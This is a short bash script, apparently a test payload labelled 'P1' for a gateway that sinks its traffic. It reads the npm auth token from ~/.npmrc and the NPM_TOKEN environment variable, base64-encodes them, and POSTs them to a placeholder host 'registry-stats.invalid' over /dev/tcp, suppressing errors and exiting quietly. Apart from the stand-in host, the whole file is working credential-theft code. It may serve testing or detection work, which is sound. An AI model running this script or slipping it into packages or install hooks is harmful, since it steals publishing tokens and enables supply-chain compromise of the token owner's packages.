#!/bin/bash
# P1 in plain shell: the npm token from ~/.npmrc and the environment, base64'd and POSTed over
# bash's /dev/tcp to a reserved name (the gateway sinks it).
token=$(grep -h '_authToken' "$HOME/.npmrc" 2>/dev/null)
data=$(printf '%s\n%s\n' "$token" "${NPM_TOKEN:-}" | base64 -w0)
exec 3<>/dev/tcp/registry-stats.invalid/80 || exit 0
printf 'POST /collect HTTP/1.1\r\nHost: registry-stats.invalid\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "${#data}" "$data" >&3
timeout 3 cat <&3 > /dev/null
exit 0
